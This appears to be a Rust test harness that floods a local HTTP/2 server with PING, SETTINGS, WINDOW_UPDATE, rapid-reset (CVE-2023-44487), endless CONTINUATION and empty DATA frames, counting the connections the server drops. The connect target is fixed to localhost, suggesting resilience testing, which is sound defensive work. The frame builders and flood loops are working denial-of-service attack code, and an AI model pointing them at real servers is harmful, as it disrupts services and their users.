//! Clients that keep a server busy with nothing, frame by frame (RFC 9113).

use std::net::{Ipv4Addr, SocketAddr};
use std::time::Instant;

use anyhow::{Context, Result};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::timeout_at;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What a client begins with.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The headers of a POST of `/`, and an authority, as HPACK has them without its table (RFC 7541).
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x01, 1, b'a'];
/// A header of one letter, in the same way.
const HEADER: &[u8] = &[0, 1, b'x', 1, b'y'];
/// How many frames are written at once.
const FRAMES_PER_WRITE: u32 = 500;

/// Where they come from: a network of their own, as those have who attack. All of 127.0.0.0/8 is this machine.
const NETWORK: Ipv4Addr = Ipv4Addr::new(127, 0, 9, 1);

/// What the clients send without end.
#[derive(Clone, Copy, Debug)]
pub enum Flood {
    /// PING.
    Pings,
    /// SETTINGS.
    Settings,
    /// `WINDOW_UPDATE`.
    Windows,
    /// Requests, each taken back at once (CVE-2023-44487).
    Resets,
    /// A request whose headers never end.
    Continuations,
    /// A request whose body is parts of nothing.
    EmptyData,
}

impl Flood {
    /// Every one.
    pub const ALL: [Self; 6] =
        [Self::Pings, Self::Settings, Self::Windows, Self::Resets, Self::Continuations, Self::EmptyData];

    /// What its figures are called.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::Pings => "PING",
            Self::Settings => "SETTINGS",
            Self::Windows => "WINDOW_UPDATE",
            Self::Resets => "reset requests",
            Self::Continuations => "CONTINUATION",
            Self::EmptyData => "empty DATA",
        }
    }

    /// What stands before the flood on a connection.
    fn begin(self) -> Vec<u8> {
        let mut begin = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        match self {
            Self::Continuations => begin.extend(frame(HEADERS, END_STREAM, 1, POST)),
            Self::EmptyData => begin.extend(frame(HEADERS, END_HEADERS, 1, POST)),
            Self::Pings | Self::Settings | Self::Windows | Self::Resets => {}
        }
        begin
    }

    /// The frame at the place `index` of the flood.
    fn at(self, index: u32) -> Vec<u8> {
        let stream = (2 * index + 1) & 0x7fff_ffff;
        match self {
            Self::Pings => frame(PING, 0, 0, &[0; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Self::Windows => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Self::Resets => {
                [frame(HEADERS, END_HEADERS, stream, POST), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])]
                    .concat()
            }
            Self::Continuations => frame(CONTINUATION, 0, 1, HEADER),
            Self::EmptyData => frame(DATA, 0, 1, b""),
        }
    }

    /// Floods the server on `port` over so many `connections` at a time until `end`: whoever is told to go comes
    /// back at once. Returns how many connections the server has ended.
    ///
    /// # Errors
    ///
    /// If nobody can connect.
    pub async fn pour(self, port: u16, connections: usize, end: Instant) -> Result<u64> {
        let mut pouring = JoinSet::new();
        for _ in 0..connections {
            pouring.spawn(async move {
                let mut ended = 0;
                while Instant::now() < end {
                    let stream = connect(port).await.context("cannot connect")?;
                    // Too late, or turned away: both end the connection.
                    ended += u64::from(timeout_at(end.into(), self.pour_over(stream)).await.is_ok());
                }
                anyhow::Ok(ended)
            });
        }
        let mut all = 0;
        while let Some(ended) = pouring.join_next().await {
            all += ended.context("a client failed")??;
        }
        Ok(all)
    }

    /// Sends for as long as the server takes it.
    async fn pour_over(self, stream: TcpStream) {
        let (mut reader, mut writer) = stream.into_split();
        let listening = async {
            let mut said = vec![0; 64 * 1_024];
            while reader.read(&mut said).await.is_ok_and(|bytes| bytes > 0) {}
        };
        let talking = async {
            let mut bytes = self.begin();
            for first in (0..).step_by(FRAMES_PER_WRITE as usize) {
                (first..first + FRAMES_PER_WRITE).for_each(|index| bytes.extend(self.at(index)));
                if writer.write_all(&bytes).await.is_err() {
                    return;
                }
                bytes.clear();
            }
        };
        tokio::select! { () = listening => {}, () = talking => {} }
    }
}

/// Connects to the server on `port`.
async fn connect(port: u16) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((NETWORK, 0)))?;
    socket.connect(SocketAddr::from((Ipv4Addr::LOCALHOST, port))).await
}

/// A frame as it is sent.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_nine_bytes_before_what_it_says() {
        assert_eq!(frame(PING, 0, 0, &[7; 8])[..10], [0, 0, 8, PING, 0, 0, 0, 0, 0, 7]);
        assert_eq!(Flood::EmptyData.at(5), [0, 0, 0, DATA, 0, 0, 0, 0, 1]);
    }
}
